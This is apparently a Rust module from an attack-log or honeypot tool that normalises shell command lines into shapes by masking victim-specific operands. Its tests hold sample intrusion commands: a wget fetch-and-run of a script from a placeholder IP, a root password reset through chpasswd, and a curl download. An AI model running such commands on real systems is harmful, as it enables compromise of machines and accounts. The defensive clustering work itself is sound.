//! A line without what differs from victim to victim.

use vespid_shell::{Line, SimpleCommand};

/// Bytes of a shape. A longer script is known by its beginning.
const LONGEST: usize = 512;
/// Letters of an operand that is kept.
const WORD: usize = 48;

/// The programs of a line with their options; operands that may be made up, such as names with digits, addresses and
/// quoted text, are a `*`. Empty for a line without a program.
pub(super) fn shape(line: &Line) -> String {
    let mut shape = String::new();
    for command in line.commands.iter().filter(|command| !command.argv.is_empty()) {
        if shape.len() > LONGEST {
            break;
        }
        if !shape.is_empty() {
            shape.push_str("; ");
        }
        one(command, &mut shape);
    }
    let end = (0..=LONGEST.min(shape.len())).rev().find(|end| shape.is_char_boundary(*end));
    shape.truncate(end.unwrap_or(0));
    shape
}

fn one(command: &SimpleCommand, shape: &mut String) {
    let program = command.image.as_deref().and_then(|image| image.rsplit('/').next()).unwrap_or_default();
    shape.push_str(if is_kept(program) { program } else { "*" });
    let mut stood = false;
    for word in command.argv.iter().skip(1) {
        if shape.len() > LONGEST {
            return;
        }
        let word = word.as_str();
        let word = if word.starts_with('-') { word.split('=').next().unwrap_or(word) } else { word };
        let kept = is_kept(word);
        if kept {
            shape.push(' ');
            shape.push_str(word);
        } else if !stood {
            shape.push_str(" *");
        }
        stood = !kept;
    }
}

/// Options, and words and paths in lower case without a digit, are what somebody means; the rest may be made up.
fn is_kept(word: &str) -> bool {
    let option = word.starts_with('-') && word.len() <= 12;
    let plain = |byte: u8| byte.is_ascii_lowercase() || b"/._-+".contains(&byte);
    (1..=WORD).contains(&word.len())
        && if option { word.bytes().all(|byte| byte.is_ascii_graphic()) } else { word.bytes().all(plain) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_differs_from_victim_to_victim_is_left_out() {
        let of = |text: &str| shape(&vespid_shell::parse(text));
        assert_eq!(
            of("cd /tmp; wget http://192.0.2.7/a1.sh; chmod 777 a1.sh; ./a1.sh x 2 y"),
            "cd /tmp; wget *; chmod *; * x * y"
        );
        assert_eq!(of("cat /proc/cpuinfo | grep name | wc -l"), "cat /proc/cpuinfo; grep name; wc -l");
        assert_eq!(of("echo root:Ab12|chpasswd"), of("echo root:x9Z|chpasswd"));
        assert_eq!(of("curl --output=/tmp/x9 http://192.0.2.7/"), "curl --output *");
        assert_eq!(of(""), "");
    }

    #[test]
    fn a_long_script_is_known_by_its_beginning() {
        let long = shape(&vespid_shell::parse(&"uname -a;".repeat(500)));
        assert!(long.len() <= LONGEST && long.starts_with("uname -a; uname -a"), "{long}");
    }
}
